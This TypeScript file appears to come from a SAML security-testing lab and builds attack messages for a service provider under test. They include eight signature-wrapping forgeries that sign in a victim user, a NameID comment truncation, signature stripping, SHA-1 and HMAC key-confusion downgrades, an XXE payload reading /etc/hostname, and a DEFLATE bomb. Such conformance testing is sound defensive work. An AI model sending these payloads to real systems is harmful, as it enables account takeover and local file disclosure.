import { newSamlId } from '../build.ts';
import { ALG, NS } from '../constants.ts';
import { elementsNamed, parseXml, serializeXml } from '../xml.ts';
import { LEGIT_NAME, mintResponse, VICTIM_NAME, type LabIdp, type LabTarget, type MintOptions } from './mint.ts';

/** How an attack is delivered to the SP under test. */
type Delivery =
  | { kind: 'post'; xml: string }
  /** The same Response twice: the second must be refused (replay). */
  | { kind: 'post-twice'; xml: string }
  /** A DEFLATE bomb to the SP's HTTP-Redirect endpoint (its SingleLogoutService). */
  | { kind: 'redirect-bomb' };

export interface Attack {
  /** The check's name in the run. */
  name: string;
  explanation: string;
  rule: string;
  /** A safe SP refuses it, or (for wrapping) signs in only the legitimate user. */
  build(idp: LabIdp, target: LabTarget, nowMs: number): Delivery;
}

const SHA1 = {
  signature: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1',
  digest: 'http://www.w3.org/2000/09/xmldsig#sha1',
};
const HMAC = 'http://www.w3.org/2000/09/xmldsig#hmac-sha1';

/** The first element `ns:local` of `doc`. */
const first = (doc: Document | Element, ns: string, local: string) => elementsNamed(doc, ns, local)[0];

/** An unsigned copy of `assertion` naming the victim, with a new ID. */
function evilCopy(assertion: Element): Element {
  const evil = assertion.cloneNode(true) as Element;
  evil.setAttribute('ID', `_evil${newSamlId().slice(1)}`);
  for (const signature of elementsNamed(evil, NS.dsig, 'Signature')) signature.parentNode?.removeChild(signature);
  for (const nameId of elementsNamed(evil, NS.assertion, 'NameID')) nameId.textContent = VICTIM_NAME;
  for (const value of elementsNamed(evil, NS.assertion, 'AttributeValue')) value.textContent = VICTIM_NAME;
  return evil;
}

/** A signature-wrapping variant: parse a legitimately signed Response, rearrange it, serialize. */
const wrap =
  (signResponse: boolean, rearrange: (doc: Document, response: Element, signed: Element) => void) =>
  (idp: LabIdp, target: LabTarget, nowMs: number): Delivery => {
    const { xml } = mintResponse(idp, target, nowMs, { signResponse, signAssertion: !signResponse });
    const doc = parseXml(xml);
    const response = doc.documentElement;
    const signed = signResponse ? response : first(doc, NS.assertion, 'Assertion');
    rearrange(doc, response, signed);
    return { kind: 'post', xml: serializeXml(doc) };
  };

/** An attack that is one minted Response, with options that make it wrong. */
const posted =
  (options: MintOptions) =>
  (idp: LabIdp, target: LabTarget, nowMs: number): Delivery => ({
    kind: 'post',
    xml: mintResponse(idp, target, nowMs, options).xml,
  });

const XSW_RULE = 'SAML core §5.4.2, profiles §4.1.4.3; Somorovsky et al., On Breaking SAML (2012)';
const xsw = (n: number, explanation: string, signResponse: boolean, rearrange: Parameters<typeof wrap>[1]): Attack => ({
  name: `XSW${n}`,
  explanation,
  rule: XSW_RULE,
  build: wrap(signResponse, rearrange),
});

/**
 * XSW1 and XSW2: a new root Response (another ID) whose assertion names the victim, keeping the original
 * signature; `place` puts the signed original Response somewhere inside it.
 */
function evilResponse(doc: Document, response: Element, place: (evil: Element, signature: Element) => void): void {
  const evil = response.cloneNode(true) as Element;
  evil.setAttribute('ID', '_evilresponse');
  const assertion = first(evil, NS.assertion, 'Assertion');
  evil.replaceChild(evilCopy(assertion), assertion);
  place(evil, first(evil, NS.dsig, 'Signature'));
  doc.replaceChild(evil, response);
}

/** The eight wrapping variants of the literature (as SAML Raider names them). */
const WRAPPING: Attack[] = [
  xsw(
    1,
    'A new Response naming the victim; the signed original Response moved inside its signature.',
    true,
    (doc, response) =>
      evilResponse(doc, response, (evil, signature) => signature.appendChild(response.cloneNode(true))),
  ),
  xsw(
    2,
    'A new Response naming the victim; the signed original Response placed before its signature.',
    true,
    (doc, response) =>
      evilResponse(doc, response, (evil, signature) => evil.insertBefore(response.cloneNode(true), signature)),
  ),
  xsw(3, 'An unsigned assertion naming the victim inserted before the signed one.', false, (_doc, response, signed) => {
    response.insertBefore(evilCopy(signed), signed);
  }),
  xsw(4, 'An unsigned assertion naming the victim, with the signed one inside it.', false, (_doc, response, signed) => {
    const evil = evilCopy(signed);
    response.replaceChild(evil, signed);
    evil.appendChild(signed);
  }),
  xsw(
    5,
    'The signed assertion’s signature kept in a copy naming the victim; the original moved to the end.',
    false,
    (_doc, response, signed) => {
      const evil = evilCopy(signed);
      const signature = first(signed, NS.dsig, 'Signature');
      evil.insertBefore(signature.cloneNode(true), evil.firstChild!.nextSibling);
      evil.setAttribute('ID', signed.getAttribute('ID')!);
      response.replaceChild(evil, signed);
      signed.removeChild(signature);
      response.appendChild(signed);
    },
  ),
  xsw(
    6,
    'A copy naming the victim carries the signature; the signed original sits inside that signature.',
    false,
    (_doc, response, signed) => {
      const evil = evilCopy(signed);
      const signature = first(signed, NS.dsig, 'Signature').cloneNode(true) as Element;
      evil.insertBefore(signature, evil.firstChild!.nextSibling);
      const original = signed.cloneNode(true) as Element;
      original.removeChild(first(original, NS.dsig, 'Signature'));
      signature.appendChild(original);
      evil.setAttribute('ID', signed.getAttribute('ID')!);
      response.replaceChild(evil, signed);
    },
  ),
  xsw(7, 'An Extensions element holding an unsigned assertion naming the victim.', false, (doc, response, signed) => {
    const extensions = doc.createElementNS(NS.protocol, 'samlp:Extensions');
    extensions.appendChild(evilCopy(signed));
    response.insertBefore(extensions, first(response, NS.protocol, 'Status'));
  }),
  xsw(
    8,
    'A copy naming the victim with the signature, whose ds:Object holds the original assertion unsigned.',
    false,
    (doc, response, signed) => {
      const evil = evilCopy(signed);
      const signature = first(signed, NS.dsig, 'Signature').cloneNode(true) as Element;
      evil.insertBefore(signature, evil.firstChild!.nextSibling);
      const object = doc.createElementNS(NS.dsig, 'ds:Object');
      const original = signed.cloneNode(true) as Element;
      original.removeChild(first(original, NS.dsig, 'Signature'));
      object.appendChild(original);
      signature.appendChild(object);
      response.replaceChild(evil, signed);
    },
  ),
];

/** The lab's attacks, in the order they are sent. */
export const ATTACKS: Attack[] = [
  ...WRAPPING,
  {
    name: 'comment-in-nameid',
    explanation: `A valid assertion for ${VICTIM_NAME}.attacker.example with a comment after ${VICTIM_NAME}: canonicalization drops comments, so the signature holds; an SP reading only the first text node signs in ${VICTIM_NAME}.`,
    rule: 'Exclusive XML Canonicalization §3 (comments dropped); CVE-2017-11428 class',
    build: (idp, target, nowMs) => {
      const { xml } = mintResponse(idp, target, nowMs, { nameId: `${VICTIM_NAME}.attacker.example` });
      return {
        kind: 'post',
        xml: xml.replace(`>${VICTIM_NAME}.attacker.example<`, `>${VICTIM_NAME}<!---->.attacker.example<`),
      };
    },
  },
  {
    name: 'unsigned-assertion-in-signed-response',
    explanation:
      'The Response is signed, its assertion (naming the victim) is not; an SP whose metadata says WantAssertionsSigned must refuse it.',
    rule: 'SAML metadata §2.4.4 (WantAssertionsSigned); profiles §4.1.3.5',
    build: posted({ nameId: VICTIM_NAME, signAssertion: false, signResponse: true }),
  },
  {
    name: 'signature-stripped',
    explanation: 'Every signature removed from a Response naming the victim.',
    rule: 'SAML profiles §4.1.3.5: the assertion must be signed',
    build: (idp, target, nowMs) => {
      const doc = parseXml(mintResponse(idp, target, nowMs, { nameId: VICTIM_NAME }).xml);
      for (const s of elementsNamed(doc, NS.dsig, 'Signature')) s.parentNode?.removeChild(s);
      return { kind: 'post', xml: serializeXml(doc) };
    },
  },
  {
    name: 'sha1-downgrade',
    explanation:
      'A genuine signature of our IdP, but with RSA-SHA1 and a SHA-1 digest: SHA-1 is broken for signatures.',
    rule: 'XML Signature 1.1 §6.2 and §6.4 (SHA-1 discouraged); RFC 9231 §2.1',
    build: posted({ algorithms: SHA1 }),
  },
  {
    name: 'hmac-downgrade',
    explanation:
      'An HMAC-SHA1 "signature" keyed with the IdP’s public certificate: an SP that lets the message choose the algorithm verifies it with the public certificate as the secret.',
    rule: 'XML Signature §6.3; the key-confusion class (CVE-2015-9235 in JWT)',
    build: (idp, target, nowMs) =>
      posted({
        nameId: VICTIM_NAME,
        algorithms: { signature: HMAC, digest: ALG.sha256, hmacKey: idp.signing.certificatePem },
      })(idp, target, nowMs),
  },
  {
    name: 'xxe-dtd',
    explanation:
      'A valid Response with a document type declaration defining an external entity: an SP that parses DTDs may read local files or reach internal hosts.',
    rule: 'SAML security considerations (saml-sec-consider §6.2.1); OWASP XXE prevention',
    build: (idp, target, nowMs) => ({
      kind: 'post',
      xml: `<?xml version="1.0"?><!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>${mintResponse(idp, target, nowMs).xml}`,
    }),
  },
  {
    name: 'deflate-bomb',
    explanation:
      'About 6 KiB of DEFLATE that inflate to 6 MiB, sent over HTTP-Redirect: the SP must bound what it inflates.',
    rule: 'SAML bindings §3.4.4.1 (DEFLATE encoding); resource exhaustion',
    build: () => ({ kind: 'redirect-bomb' }),
  },
  {
    name: 'replayed-assertion',
    explanation: 'The same valid Response sent twice: the second must be refused.',
    rule: 'SAML profiles §4.1.4.5 (one-time use of bearer assertions)',
    build: (idp, target, nowMs) => ({ kind: 'post-twice', xml: mintResponse(idp, target, nowMs).xml }),
  },
  {
    name: 'wrong-audience',
    explanation: 'A valid signature over an assertion meant for another SP.',
    rule: 'SAML core §2.5.1.4 (AudienceRestriction)',
    build: posted({ audience: 'https://another-sp.example/saml' }),
  },
  {
    name: 'wrong-recipient',
    explanation: 'A valid signature over an assertion confirmed for another ACS URL.',
    rule: 'SAML profiles §4.1.4.3 (Recipient)',
    build: posted({ recipient: 'https://another-sp.example/acs' }),
  },
  {
    name: 'expired-assertion',
    explanation: 'A valid signature over an assertion that expired ten minutes ago.',
    rule: 'SAML core §2.5.1.2 (NotOnOrAfter); profiles §4.1.4.3',
    build: posted({ shiftMs: -15 * 60_000 }),
  },
];

export { LEGIT_NAME, VICTIM_NAME };
